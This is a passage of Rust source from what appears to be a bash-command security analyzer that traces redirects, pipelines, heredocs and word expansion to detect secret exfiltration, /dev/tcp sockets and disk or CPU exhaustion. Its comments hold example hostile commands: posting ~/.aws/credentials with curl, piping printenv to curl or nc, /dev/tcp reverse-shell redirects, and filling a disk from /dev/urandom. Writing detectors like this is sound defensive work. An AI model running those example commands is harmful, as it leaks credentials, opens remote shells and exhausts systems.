    /// `$(< FILE)`: bash substitutes FILE's content, as `$(cat FILE)` does (without running
    /// `cat`). Judged as that `cat`, so the read is on record for the policy and the output is
    /// what reading FILE gives (a credential file's content stays secret: `v=$(<
    /// ~/.aws/credentials); curl -d "$v" …` is exfiltration, `tag="v$(< VERSION)"` is not).
    fn read_file_output(
        &mut self,
        file: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) -> Producer {
        let word = self.word(file, src, scope, depth);
        let argv = [Word::lit("cat"), word];
        self.exec(&argv, scope, Producer::Nothing)
    }

    fn pipeline(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        stdin: Producer,
        depth: usize,
    ) -> Producer {
        let mut cursor = node.walk();
        let stages: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        if stages.len() > 1 && stages.last().is_some_and(|s| s.kind() == "list") {
            return self.misread_pipeline(node, src, scope, stdin, depth);
        }
        self.pipeline_of(
            stages.len(),
            scope,
            stdin,
            |w, index, inner, input| match stages.get(index) {
                Some(&stage) => w.stmt_io(stage, src, inner, input, depth + 1),
                None => Producer::Nothing,
            },
        )
    }

    /// The stages of a pipeline of `count` stages, for stages of any form: `run(walker,
    /// index, scope, stdin)` walks stage `index` in its own subshell's `scope` with what the
    /// stage before printed. Shared by tree-sitter's `pipeline` nodes and the plain-list fast
    /// path (`crate::plain_list`), so both judge a pipeline by the same rules (what flows
    /// through it, the last stage's state, `Walker::judge_pipeline`).
    pub(crate) fn pipeline_of(
        &mut self,
        count: usize,
        scope: &mut Scope,
        stdin: Producer,
        mut run: impl FnMut(&mut Self, usize, &mut Scope, Producer) -> Producer,
    ) -> Producer {
        let mut input = stdin;
        let mut ranges = Vec::with_capacity(count);
        self.captured += 1;
        for index in 0..count {
            // Each stage runs in its own subshell: `cd` does not leak.
            let mut inner = scope.clone();
            let before = self.commands.len();
            // `cat FILE | cmd`: cmd reads FILE as surely as with `cmd < FILE`.
            if let Some(file) = self.files.piped_file.take()
                && index > 0
                && input == Producer::LocalFile
            {
                self.files.stdin_file = Some(file);
            }
            input = self.in_shell(&mut inner, |w, inner| run(w, index, inner, input));
            ranges.push((before, self.commands.len()));
            if index + 1 == count {
                // zsh (and bash with `lastpipe`) runs the last stage in the shell itself: what
                // it assigns may or may not be seen after the pipeline.
                scope.join(&inner);
            }
        }
        self.captured -= 1;
        self.files.piped_file = None;
        self.judge_pipeline(&ranges, scope);
        input
    }

    fn redirected(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        stdin: Producer,
        depth: usize,
    ) -> Producer {
        let mut redirects = Vec::new();
        let mut body = None;
        for (child, field) in children_with_fields(node) {
            match field {
                Some("body") => body = Some(child),
                Some("redirect") => redirects.push(child),
                _ if child.is_named() => {
                    if child.kind().ends_with("redirect") {
                        redirects.push(child);
                    } else if body.is_none() {
                        body = Some(child);
                    } else {
                        self.stmt(child, src, scope, depth + 1);
                    }
                }
                _ => {}
            }
        }
        match body {
            // Redirects the grammar hangs on a list are its last command's (see `list`).
            // The last operand's output goes where the redirects send it; an earlier one's
            // secret to the statement's own output (`printenv && date > f`: judged by the
            // caller as a statement with its stdout to a file, so only the last's is lost).
            Some(b) if b.kind() == "list" => self
                .list(b, src, scope, stdin, &redirects, depth + 1)
                .secret_or(|last| last),
            _ => self.with_redirects(&redirects, body, src, scope, stdin, depth),
        }
    }

    /// Runs `body` with `redirects` applied, in the state it runs in (for a list, that of its
    /// last command, after the operands before it moved or assigned).
    pub(crate) fn with_redirects(
        &mut self,
        redirects: &[Node<'_>],
        body: Option<Node<'_>>,
        src: &str,
        scope: &mut Scope,
        stdin: Producer,
        depth: usize,
    ) -> Producer {
        let mut input = stdin;
        let mut continuations = Vec::new();
        let (sockets, written, before) =
            (self.sockets.len(), self.written.len(), self.commands.len());
        let records = self.write_records.len();
        // `cmd > >(sink)`: the sink reads what `cmd` prints, so it runs after `cmd` with that
        // output as its input (`printenv > >(curl -d @- URL)`).
        let mut fed = Vec::new();
        for redirect in redirects {
            if let Some(sink) = output_substitution(*redirect, src) {
                fed.push(sink);
                continue;
            }
            if let Some(p) = self.redirect(*redirect, src, scope, depth, &mut continuations) {
                input = p;
            }
        }
        // `exec {fd}< KEY`: bash opens the file on a free descriptor (10 or above) and stores
        // its number in `fd`, so `/dev/fd/$fd` and `<&$fd` read the secret.
        if let (Some(b), Producer::Secret(source)) = (body, &input)
            && b.kind() == "command"
            && let Some(var) = text(b, src)
                .trim()
                .strip_prefix("exec")
                .map(str::trim)
                .and_then(|t| t.strip_prefix('{'))
                .and_then(|t| t.strip_suffix('}'))
            && !var.is_empty()
            && var.bytes().all(|c| c.is_ascii_alphanumeric() || c == b'_')
        {
            let fd = (10 + self.files.fd_secrets.len()).to_string();
            self.files.fd_secrets.push((fd.clone(), source.clone()));
            scope.sh.set(var, crate::state::Val::Known(fd), None);
        }
        // `exec < KEY`, `exec 0<&3`: a bare `exec` makes the redirect the shell's own standard
        // input, which every later command without input of its own reads.
        // The grammar may keep the `0` of `exec 0<&3` as an argument of `exec`.
        if let (Some(b), Producer::Secret(_)) = (body, &input)
            && b.kind() == "command"
            && matches!(
                text(b, src).trim().strip_prefix("exec").map(str::trim),
                Some("" | "0")
            )
            && redirects.iter().any(|r| redirects_stdin(*r, src))
        {
            self.shell_stdin = input.clone();
        }
        let output = match body {
            Some(b) if b.kind() == "command" => {
                let out = self.command(b, src, scope, input);
                // `op read … >/dev/null`: printing into nothing exposes nothing (see the
                // `discard` module). Only the statement's own command, not a substitution
                // in its words nor what a wrapper runs.
                let (stdout, stderr) = crate::discard::discarded(redirects, src);
                if stdout
                    && let Some(cmd) = self.commands.get_mut(before..).and_then(|cs| {
                        cs.iter_mut().rev().find(|c| {
                            c.via == scope.via
                                && c.argv
                                    .first()
                                    .is_none_or(|a| !crate::resolve::is_redirect_record(a))
                        })
                    })
                {
                    crate::discard::settle(cmd, stderr);
                }
                out
            }
            Some(b) => self.stmt_io(b, src, scope, input, depth + 1),
            None => Producer::Nothing,
        };
        // `exec > >(nc host port)`: every later statement's output goes into the sink.
        let bare_exec =
            body.is_some_and(|b| b.kind() == "command" && text(b, src).trim() == "exec");
        for sink in fed {
            if bare_exec
                && !scope.remote
                && let Some(found) = self.network_sink_of(sink, src, scope, depth + 1)
            {
                self.files.exec_sink = Some(found);
            }
            let _ = self.fed_substitution(sink, src, scope, depth + 1, &output);
        }
        self.settle_writes(records, &output);
        self.files.stdin_file = None;
        self.after_redirects(before, sockets, written, &output, scope);
        // `cat <<EOF | bash`: tree-sitter hangs the rest of the pipeline (or list) inside the
        // heredoc redirect.
        let mut last = output;
        for (piped, cont) in continuations {
            if piped {
                let mut cursor = cont.walk();
                let stages: Vec<Node<'_>> = cont.named_children(&mut cursor).collect();
                for stage in stages {
                    let mut inner = scope.clone();
                    last = self.in_shell(&mut inner, |w, inner| {
                        w.stmt_io(stage, src, inner, last, depth + 1)
                    });
                }
            } else {
                self.stmt(cont, src, scope, depth + 1);
            }
        }
        last
    }

    /// The network sink a `>(…)` is, if secret data fed to it would leave the machine: a trial
    /// walk with a marker secret as its input, whose records (and file notes) are dropped.
    fn network_sink_of(
        &mut self,
        sink: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) -> Option<crate::model::FlowSink> {
        let marker = crate::model::FlowSource::Environment {
            by: "exec > >(…)".to_owned(),
        };
        let mark = self.mark();
        let files = self.files.clone();
        let _ = self.fed_substitution(sink, src, scope, depth, &Producer::Secret(marker.clone()));
        let found = self
            .commands
            .get(mark.commands..)
            .unwrap_or(&[])
            .iter()
            .find_map(|c| {
                c.verdict
                    .flow
                    .as_ref()
                    .filter(|f| f.source == marker)
                    .map(|f| f.sink.clone())
            });
        self.rewind(mark);
        self.files = files;
        found
    }

    /// After a statement ran: what it printed, when known, goes on the redirect records it
    /// wrote through (see `ExecutedCommand::writes`; the text it read is on its command's
    /// `stdin`, attached by `Walker::exec`).
    pub(crate) fn settle_writes(&mut self, records: usize, output: &Producer) {
        if self.write_records.len() <= records {
            return;
        }
        let recs: Vec<usize> = self
            .write_records
            .drain(records.min(self.write_records.len())..)
            .collect();
        if *output == Producer::Endless {
            // `yes > f`, `cat /dev/urandom > f`: the write only stops when the disk is full;
            // `yes > /dev/null`: it never stops, a core burnt for as long as it runs (in
            // the background or a loop, until someone kills it).
            for i in &recs {
                if let Some(c) = self.commands.get_mut(*i)
                    && c.argv
                        .first()
                        .is_some_and(|a| crate::resolve::is_redirect_record(a))
                    && let Some(p) = c.argv.get(1)
                {
                    // `/dev/shm` is memory-backed: filling it fills RAM.
                    if !p.starts_with("/dev/") || p.starts_with("/dev/shm/") {
                        c.verdict = crate::taxonomy::ids::RES_DISK_FILL.verdict();
                    } else if matches!(p.as_str(), "/dev/null" | "/dev/zero") {
                        c.verdict = crate::taxonomy::ids::RES_CPU_EXHAUST.verdict();
                    }
                }
            }
        }
        if let Producer::Text { text, exact } = output {
            for i in recs {
                if let Some(c) = self.commands.get_mut(i)
                    && c.argv
                        .first()
                        .is_some_and(|a| crate::resolve::is_redirect_record(a))
                {
                    c.writes = Some(crate::model::Text {
                        text: text.clone(),
                        exact: *exact,
                    });
                }
            }
        }
    }

    /// The body of an unquoted heredoc as the command reads it: `$X`, `${…}`, `$(…)` and
    /// backticks expanded where their value is known (the substitutions run), backslash
    /// escapes of `$`, `` ` ``, `\` and newlines removed.
    fn heredoc_text(&mut self, node: Node<'_>, src: &str, scope: &mut Scope, depth: usize) -> Word {
        let mut w = Word::lit("");
        let outer = self.maybe_empty.take();
        let mut pos = node.start_byte();
        let mut cursor = node.walk();
        let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
        for child in children {
            if let Some(gap) = src.get(pos..child.start_byte()) {
                w.text.push_str(&unescape_heredoc(gap));
            }
            if child.kind() == "heredoc_content" {
                w.text.push_str(&unescape_heredoc(text(child, src)));
            } else if child.kind() != "heredoc_end" {
                // Blanks an expansion node starts with are text (see the `string` arm).
                let own = text(child, src);
                let blanks = own.len() - own.trim_start_matches([' ', '\t', '\n']).len();
                w.text.push_str(own.get(..blanks).unwrap_or(""));
                self.word_part(child, src, scope, depth + 1, &mut w, false, true);
            }
            pos = child.end_byte().max(pos);
        }
        if let Some(gap) = src.get(pos..node.end_byte()) {
            w.text.push_str(&unescape_heredoc(gap));
        }
        self.settle_maybe_empty(&mut w, outer);
        // A document's text is no path: `$USER` there stays unresolved.
        crate::identity::settle(&mut w, false);
        w
    }

    /// Handles one redirect; returns the new stdin if it provides one. Statements hanging
    /// inside a heredoc redirect are pushed to `continuations` (true = piped).
    pub(crate) fn redirect<'t>(
        &mut self,
        node: Node<'t>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
        continuations: &mut Vec<(bool, Node<'t>)>,
    ) -> Option<Producer> {
        match node.kind() {
            "heredoc_redirect" => {
                let mut result = None;
                let mut quoted = false;
                let mut fd = 0;
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    match child.kind() {
                        "file_descriptor" => fd = text(child, src).parse().unwrap_or(u32::MAX),
                        "heredoc_start" => {
                            quoted = text(child, src).contains(['\'', '"', '\\']);
                        }
                        "heredoc_body" => {
                            let body = if quoted {
                                Word::lit(text(child, src))
                            } else {
                                self.heredoc_text(child, src, scope, depth + 1)
                            };
                            // `3<<EOF` feeds descriptor 3, not standard input (its
                            // substitutions still ran above).
                            result = (fd == 0).then(|| Producer::Text {
                                text: strip_heredoc_tabs(&body.text, text(node, src)),
                                exact: body.exact,
                            });
                        }
                        "pipeline" => continuations.push((true, child)),
                        "file_redirect" | "herestring_redirect" => {
                            let _ = self.redirect(child, src, scope, depth + 1, continuations);
                        }
                        "heredoc_end" => {}
                        k if is_statement(k) => continuations.push((false, child)),
                        _ => self.scan_substitutions(child, src, scope, depth + 1),
                    }
                }
                result
            }
            "herestring_redirect" => {
                let mut cursor = node.walk();
                let children: Vec<Node<'_>> = node.named_children(&mut cursor).collect();
                let fd = children
                    .iter()
                    .find(|c| c.kind() == "file_descriptor")
                    .map_or(0, |c| text(*c, src).parse().unwrap_or(u32::MAX));
                let value = children
                    .last()
                    .filter(|c| c.kind() != "file_descriptor")
                    .map(|w| {
                        // A here-string's word is not split or globbed.
                        let outer = std::mem::replace(&mut self.no_split, true);
                        let v = self.word(*w, src, scope, depth + 1);
                        self.no_split = outer;
                        v
                    });
                if fd != 0 {
                    return None;
                }
                value.map(|w| match crate::flow::words_source([&w]) {
                    Some(source) => Producer::Secret(source),
                    None => Producer::Text {
                        text: w.text,
                        exact: w.exact,
                    },
                })
            }
            "file_redirect" => {
                let mut operator = "";
                let mut cursor = node.walk();
                let mut destination = None;
                let mut socket = None;
                // The descriptor written before the operator (`2>`); none is stdout.
                let mut descriptor = None;
                for (index, child) in node.children(&mut cursor).enumerate() {
                    let field = u32::try_from(index)
                        .ok()
                        .and_then(|i| node.field_name_for_child(i));
                    if operator.is_empty() && child.kind() == "file_descriptor" {
                        descriptor = Some(text(child, src));
                    }
                    if !child.is_named() {
                        operator = child.kind();
                    } else if field == Some("destination")
                        || !matches!(child.kind(), "file_descriptor")
                    {
                        // The grammar may hang a following `0>&1`'s fd on this redirect
                        // (`>& /dev/tcp/h/p 0>&1`): every destination is checked for a socket.
                        if socket.is_none() && child.kind() == "word" {
                            socket = crate::flow::socket_endpoint(&Word::lit(text(child, src)));
                        }
                        if let Some(earlier) = destination.replace(child)
                            && socket.is_none()
                            && matches!(
                                earlier.kind(),
                                "concatenation" | "string" | "expansion" | "simple_expansion"
                            )
                        {
                            // A socket path built from variables, with the grammar hanging a
                            // following `0>&1` on this redirect: expanded, it may be one.
                            let w = self.word(earlier, src, scope, depth + 1);
                            socket = w
                                .text
                                .strip_prefix("/dev/tcp/")
                                .or_else(|| w.text.strip_prefix("/dev/udp/"))
                                .map(str::to_owned);
                        }
                    }
                }
                if let Some(endpoint) = socket {
                    // bash opens a socket: reading it is data from the network.
                    self.sockets.push(endpoint);
                    return operator.starts_with('<').then_some(Producer::Download);
                }
                let destination = destination?;
                if destination.kind() == "process_substitution" {
                    let p = self.substitution(destination, src, scope, depth + 1);
                    return operator.starts_with('<').then_some(p);
                }
                let word = self.word(destination, src, scope, depth + 1);
                // A socket path built from variables (`/dev/tcp/$H/4444`, `X=/dev/tc;
                // >& ${X}p/h/p`): the expanded word says so even when the host is known
                // only at run time.
                if let Some(endpoint) = word
                    .text
                    .strip_prefix("/dev/tcp/")
                    .or_else(|| word.text.strip_prefix("/dev/udp/"))
                {
                    self.sockets.push(endpoint.to_owned());
                    return operator.starts_with('<').then_some(Producer::Download);
                }
                self.redirect_to(operator, descriptor, &word, scope)
            }
            _ => {
                self.scan_substitutions(node, src, scope, depth + 1);
                None
            }
        }
    }

    /// A file redirect once its destination is resolved to `word`: a socket, a written file
    /// (recorded and judged), an input file or descriptor; returns the new stdin if it provides
    /// one. Shared by the grammar path ([`Self::redirect`]) and the plain fast path
    /// (`plain_list`), so both judge a redirect alike.
    pub(crate) fn redirect_to(
        &mut self,
        operator: &str,
        descriptor: Option<&str>,
        word: &Word,
        scope: &mut Scope,
    ) -> Option<Producer> {
        if let Some(endpoint) = crate::flow::socket_endpoint(word) {
            self.sockets.push(endpoint);
            return operator.starts_with('<').then_some(Producer::Download);
        }
        if matches!(operator, ">" | ">>" | ">|" | "&>" | "&>>") {
            self.written.push(word.clone());
            // What the statement prints reaches the file only through stdout.
            let stdout = operator.starts_with('&') || descriptor.is_none_or(|d| d == "1");
            if !scope.remote && stdout {
                self.write_records.push(self.commands.len());
            }
        }
        match operator {
            "<&" if word.exact && is_fd(&word.text) => {
                // `read l <&3`: what descriptor 3 was opened on, when that is a secret.
                self.files
                    .fd_secrets
                    .iter()
                    .find(|(fd, _)| *fd == word.text)
                    .map(|(_, source)| Producer::Secret(source.clone()))
            }
            "<" => {
                let p = crate::resolve::file_producer(self, word, scope);
                if let (Producer::Secret(source), Some(fd)) = (&p, descriptor)
                    && fd != "0"
                {
                    self.files.fd_secrets.push((fd.to_owned(), source.clone()));
                }
                if let (Producer::LocalFile, crate::targets::Cwd::Known(cwd)) = (&p, &scope.cwd) {
                    let home = self.ctx.home.as_deref();
                    let path = hookgate_paths::normalize(&word.text, cwd, home).path;
                    self.files.stdin_file = Some(path);
                }
                Some(p)
            }
            ">&" | "<&" | ">&-" | "<&-" if word.exact && is_fd(&word.text) => None,
            ">" | ">>" | ">|" | "&>" | "&>>" | ">&" | "<>" => {
                let append = matches!(operator, ">>" | "&>>");
                crate::resolve::redirect_write(self, word, scope, append);
                None
            }
            _ => None,
        }
    }

    /// Resolves a word node: quote removal, escapes, ANSI-C strings, known variables; runs the
    /// substitutions it contains.
    pub(crate) fn word(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) -> Word {
        let mut w = Word::lit("");
        let outer = self.maybe_empty.take();
        self.word_part(node, src, scope, depth, &mut w, true, false);
        self.settle_maybe_empty(&mut w, outer);
        crate::identity::settle(&mut w, true);
        // Where it is not split into fields (redirect targets), a word that brace-expands
        // to several words is not one known argument.
        if !self.no_split
            && crate::expand::may_brace(text(node, src))
            && brace_kind(node)
            && crate::expand::braces(text(node, src)) != crate::expand::Braces::Literal
        {
            w.exact = false;
        }
        w
    }

    /// A word that expanded a value that may be empty is that value only when it is nothing
    /// else (an empty argument names no file; `"$tmp"/*` with an empty `tmp` is `/*`, so it
    /// stays a run-time value). `outer` is the flag of an enclosing word, put back.
    fn settle_maybe_empty(&mut self, w: &mut Word, outer: Option<String>) {
        if let Some(value) = std::mem::replace(&mut self.maybe_empty, outer)
            && w.text != value
        {
            w.exact = false;
        }
    }

    /// The fields one argument becomes, as bash builds them: brace expansion of its source
    /// text (each alternative resolved on its own), then the word, then field splitting of a
    /// lone unquoted `$X` whose value is known, and `"$@"` as one field per parameter.
    pub(crate) fn fields(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
    ) -> Vec<Word> {
        let mut out = Vec::with_capacity(1);
        self.fields_into(node, src, scope, depth, &mut out);
        out
    }

    /// [`Self::fields`], appended to `out` (one argument costs no vector of its own).
    pub(crate) fn fields_into(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
        out: &mut Vec<Word>,
    ) {
        let raw = text(node, src);
        if crate::expand::may_brace(raw) && brace_kind(node) {
            let resolved = match crate::expand::braces(raw) {
                crate::expand::Braces::Literal => None,
                crate::expand::Braces::Words(alternatives) => {
                    Some(self.reparsed_fields(&alternatives, scope, depth, out))
                }
                crate::expand::Braces::TooMany => Some(false),
            };
            if let Some(resolved) = resolved {
                if !resolved {
                    // Several words not known one by one: the word, unresolved.
                    let mut w = self.word(node, src, scope, depth);
                    w.exact = false;
                    out.push(w);
                }
                return;
            }
        }
        self.fields_after_braces(node, src, scope, depth, out);
    }

    fn fields_after_braces(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
        out: &mut Vec<Word>,
    ) {
        let (k, ids) = (node.kind_id(), kind_ids());
        if k == ids.simple_expansion || k == ids.expansion {
            if let Some(fields) = self.split_expansion(node, src, scope) {
                out.extend(fields);
                return;
            }
        } else if let Some(elements) = quoted_array(node, src, scope) {
            // `"${files[@]}"`: one field per element of a known array.
            out.extend(elements.iter().map(|e| Word::lit(e.clone())));
            return;
        } else if k == ids.string
            && is_quoted_at(node, src)
            && let Some(params) = &scope.sh.params
            && params.iter().all(|p| p.known().is_some())
        {
            out.extend(params.iter().filter_map(|p| p.known().map(Word::lit)));
            return;
        }
        // Brace expansion was decided by the caller: the word as it is.
        let mut w = Word::lit("");
        let outer = self.maybe_empty.take();
        self.word_part(node, src, scope, depth, &mut w, true, false);
        self.settle_maybe_empty(&mut w, outer);
        crate::identity::settle(&mut w, true);
        out.push(w);
    }

    /// A lone unquoted `$X`/`${X}`/`$@`/`$*` with a known value: its fields (none when empty).
    /// `None` when the value is unknown or `IFS` was changed (the word stays unresolved).
    fn split_expansion(&mut self, node: Node<'_>, src: &str, scope: &Scope) -> Option<Vec<Word>> {
        if scope.sh.get("IFS").is_some() {
            return None;
        }
        let name = expansion_name(node, src);
        let values: Vec<String> =
            if let Some(elements) = crate::resolve::array_elements(node, src, scope) {
                // Unquoted `${a[@]}`: each element, itself split.
                elements.to_vec()
            } else if matches!(name, Some("@" | "*")) && is_plain_expansion(node) {
                scope
                    .sh
                    .params
                    .as_ref()?
                    .iter()
                    .map(|p| p.known().map(str::to_owned))
                    .collect::<Option<Vec<_>>>()?
            } else {
                vec![crate::resolve::variable(node, src, self.ctx, scope)?]
            };
        Some(
            values
                .iter()
                .flat_map(|v| crate::expand::split_fields(v))
                .map(|f| {
                    let glob = f.contains(['*', '?', '[']);
                    let mut w = Word::lit(f);
                    if glob {
                        w.shape = WordShape::Glob;
                    }
                    w
                })
                .collect(),
        )
    }

    /// Resolves brace-expansion alternatives (source texts) by parsing them as the arguments
    /// of one command. `None` when they do not come back as one argument each.
    fn reparsed_fields(
        &mut self,
        alternatives: &[String],
        scope: &mut Scope,
        depth: usize,
        out: &mut Vec<Word>,
    ) -> bool {
        self.reparse_into(alternatives, scope, depth, out).is_some()
    }

    fn reparse_into(
        &mut self,
        alternatives: &[String],
        scope: &mut Scope,
        depth: usize,
        out: &mut Vec<Word>,
    ) -> Option<()> {
        // Empty unquoted results are dropped, as bash drops them.
        let alternatives: Vec<&String> = alternatives.iter().filter(|a| !a.is_empty()).collect();
        let mut line = String::from(":");
        for a in &alternatives {
            line.push(' ');
            // An alternative starting with `#` would begin a comment on its own.
            if a.starts_with('#') {
                line.push('\\');
            }
            line.push_str(a);
        }
        let tree = self.parser.parse(&line, None)?;
        let root = tree.root_node();
        if root.has_error() || root.named_child_count() != 1 {
            return None;
        }
        let command = root.named_child(0).filter(|c| c.kind() == "command")?;
        let mut cursor = command.walk();
        let arguments: Vec<Node<'_>> = command
            .children_by_field_name("argument", &mut cursor)
            .collect();
        if arguments.len() != alternatives.len() {
            return None;
        }
        let mut words = Vec::with_capacity(arguments.len());
        for a in arguments {
            self.fields_after_braces(a, &line, scope, depth + 1, &mut words);
        }
        out.extend(words);
        Some(())
    }

    #[allow(clippy::too_many_arguments)]
    fn word_part(
        &mut self,
        node: Node<'_>,
        src: &str,
        scope: &mut Scope,
        depth: usize,
        w: &mut Word,
        first: bool,
        quoted: bool,
    ) {
        if self.too_deep(depth) {
            w.exact = false;
            return;
        }
        let raw = text(node, src);
        // Inside a string the blanks a node starts with are pushed by the `string` arm (see
        // there): the node's own text starts after them.
        let raw = if quoted {
            raw.trim_start_matches([' ', '\t', '\n'])
        } else {
            raw
        };
        match node.kind() {
            "word" | "number" => {
                if quoted {
                    w.text.push_str(raw);
                } else {
                    unquoted_word(raw, first, self.ctx, scope, w);
                }
            }
            "raw_string" => {
                w.text.push_str(
                    raw.strip_prefix('\'')
                        .and_then(|s| s.strip_suffix('\''))
                        .unwrap_or(raw),
                );
            }
            "ansi_c_string" => {
                let inner = raw
                    .strip_prefix("$'")
                    .and_then(|s| s.strip_suffix('\''))
                    .unwrap_or(raw);
                if let Some(s) = crate::resolve::ansi_c(inner) {
                    w.text.push_str(&s);
                } else {
                    w.text.push_str(raw);
                    w.exact = false;
                }
            }
            "string" | "translated_string" => {
                // Text between named children is content too (tree-sitter-bash emits no node
                // for a string that is only blanks, e.g. `" "`).
                let open = if raw.starts_with('$') { 2 } else { 1 };
                let mut pos = node.start_byte() + open;
                let end = node.end_byte().saturating_sub(1).max(pos);
                let mut cursor = node.walk();
                for child in node.named_children(&mut cursor) {
                    if let Some(gap) = src.get(pos..child.start_byte()) {
                        w.text.push_str(&unescape_double(gap));
                    }
                    if child.kind() == "string_content" {
                        w.text.push_str(&unescape_double(text(child, src)));
                    } else {
                        // tree-sitter-bash starts an expansion that follows another one at
                        // the blanks between them (`"$a $b"`: the second node is ` $b`):
                        // those blanks are content, or `"git $a $b"` would run `git pushX`.
                        let own = text(child, src);
                        let blanks = own.len() - own.trim_start_matches([' ', '\t', '\n']).len();
                        w.text.push_str(own.get(..blanks).unwrap_or(""));
                        self.word_part(child, src, scope, depth + 1, w, false, true);
                    }
                    pos = child.end_byte();
                }
                if let Some(gap) = src.get(pos..end) {
                    w.text.push_str(&unescape_double(gap));
                }
            }
            "string_content" => w.text.push_str(&unescape_double(raw)),
            "concatenation" => {
                let mut cursor = node.walk();
                let mut index = 0;
                for child in node.children(&mut cursor) {
                    if child.is_named() {
                        self.word_part(
                            child,
                            src,
                            scope,
                            depth + 1,
                            w,
                            first && index == 0,
                            quoted,
                        );
                        index += 1;
                    } else {
                        // A token the grammar leaves unnamed inside a word is kept as written,
                        // never dropped. `$` (a literal dollar, or with the next one `$$`, the
                        // shell's PID: digits) can neither add a path separator nor change a
                        // path's directory, so the word stays exact (`/tmp/lock.$$` is in
                        // /tmp); any other such token makes it a run-time value.
                        w.text.push_str(text(child, src));
                        if child.kind() != "$" {
                            w.exact = false;
                        }
                    }
                }
            }
            "simple_expansion" | "expansion" => {
                let value = crate::resolve::variable(node, src, self.ctx, scope);
                if value.is_none() {
                    // `${d:=x}` assigns when `d` is unset or empty.
                    crate::resolve::expansion_assigns(node, src, scope);
                }
                if let Some(value) = value {
                    if !quoted && !self.no_split {
                        // Unquoted, the value is split into fields and globbed.
                        if crate::expand::splits(&value) || scope.sh.get("IFS").is_some() {
                            w.exact = false;
                        }
                        if value.contains(['*', '?', '[']) && w.shape == WordShape::Exact {
                            w.shape = WordShape::Glob;
                        }
                    }
                    w.text.push_str(&value);
                    // `${TMPDIR:-$(…)}`: the default may still run.
                    self.scan_substitutions(node, src, scope, depth + 1);
                } else if let Some(paths) = crate::resolve::found_files(node, src, scope) {
                    // `sh -c 'curl -T "$1" URL' _ {}` under `find -exec`: the found files.
                    w.text.push_str(&paths.text);
                    w.shape = paths.shape;
                } else if is_plain_expansion(node)
                    && let Some(name) = expansion_name(node, src)
                    && let Some(crate::state::Val::OrEmpty(value)) = scope.sh.get(name)
                {
                    // `"$tmp"` after `tmp=$(mktemp) && …;`: the scratch path or nothing.
                    let value = value.clone();
                    w.text.push_str(&value);
                    self.maybe_empty = Some(value);
                } else if crate::identity::push(node, src, scope, w) {
                    // `$USER`: one path component, settled when the word is complete.
                } else {
                    w.text.push_str(raw);
                    w.exact = false;
                    if let Some(source) = crate::flow::secret_variable(node, src, scope) {
                        w.substs.push(Producer::Secret(source));
                    }
                    self.scan_substitutions(node, src, scope, depth + 1);
                }
            }
            "command_substitution" => {
                let before = self.commands.len();
                let produced = self.substitution(node, src, scope, depth + 1);
                // `$(echo rm)`, `` `printf .claude` `` fold to their output when every command
                // inside was a plain `echo`/`printf`/`dirname`/`basename` (whose output the
                // walker computed; any option or directive it does not model makes the output
                // inexact). `mktemp`
                // folds to the new entry it creates (`crate::listed::mktemp_output`), `pwd` to
                // the directory the line is in when it is known. Unquoted,
                // the output is split at `IFS`: only the default one (no blank in the text)
                // leaves it one known field; once the line assigns `IFS` it is unresolved.
                let only_echo = self.commands.get(before..).is_some_and(|cmds| {
                    cmds.iter().all(|c| {
                        c.argv.first().is_some_and(|a| {
                            matches!(
                                a.as_str(),
                                "echo" | "printf" | "mktemp" | "pwd" | "dirname" | "basename"
                            )
                        }) || matches!(c.argv.as_slice(), [g, r, t] if g == "git" && r == "rev-parse" && t == "--show-toplevel")
                    })
                });
                match &produced {
                    Producer::Text { text, exact: true }
                        if only_echo
                            && (quoted
                                || (scope.sh.get("IFS").is_none()
                                    && !text
                                        .trim_end_matches('\n')
                                        .contains(char::is_whitespace))) =>
                    {
                        w.text.push_str(text.trim_end_matches('\n'));
                    }
                    _ if self.commands.get(before..).is_some_and(|cmds| {
                        matches!(cmds, [c] if matches!(c.verdict.class, crate::model::Class::Safe | crate::model::Class::Normal)
                            && crate::identity::token_producer(
                                &c.argv.iter().map(String::as_str).collect::<Vec<_>>(),
                            ))
                    }) =>
                    {
                        // `out/report-$(date +%F).json`: one name-safe component.
                        crate::identity::push_token(raw, w);
                    }
                    _ => {
                        w.text.push_str(raw);
                        w.exact = false;
                    }
                }
                w.substs.push(produced);
            }
            "process_substitution" => {
                let produced = self.substitution(node, src, scope, depth + 1);
                w.text.push_str(raw);
                w.exact = false;
                w.substs.push(produced);
            }
            _ => {
                w.text.push_str(raw);
                w.exact = false;
                self.scan_substitutions(node, src, scope, depth + 1);
                if is_arithmetic(node.kind()) {
                    crate::control::arithmetic(node, src, scope);
                }
            }
        }
    }
}

fn is_fd(s: &str) -> bool {
    s == "-" || (!s.is_empty() && s.bytes().all(|b| b.is_ascii_digit()))
}

/// The grammar's ids of the node kinds tested on every word (comparing ids, not names:
/// `Node::kind` measures and validates the name each time). Looked up once; an id the
/// grammar does not have is 0, which no node carries.
struct KindIds {
    ampersand: u16,
    simple_expansion: u16,
    expansion: u16,
    string: u16,
    word: u16,
    concatenation: u16,
    brace_expression: u16,
}

fn kind_ids() -> &'static KindIds {
    static IDS: std::sync::OnceLock<KindIds> = std::sync::OnceLock::new();
    IDS.get_or_init(|| {
        let language: tree_sitter::Language = tree_sitter_bash::LANGUAGE.into();
        let named = |k: &str| language.id_for_node_kind(k, true);
        KindIds {
            ampersand: language.id_for_node_kind("&", false),
            simple_expansion: named("simple_expansion"),
            expansion: named("expansion"),
            string: named("string"),
            word: named("word"),
            concatenation: named("concatenation"),
            brace_expression: named("brace_expression"),
        }
    })
}

/// A word node brace expansion applies to.
fn brace_kind(node: Node<'_>) -> bool {
    let k = node.kind_id();
    let ids = kind_ids();
    k != 0 && (k == ids.word || k == ids.concatenation || k == ids.brace_expression)
}

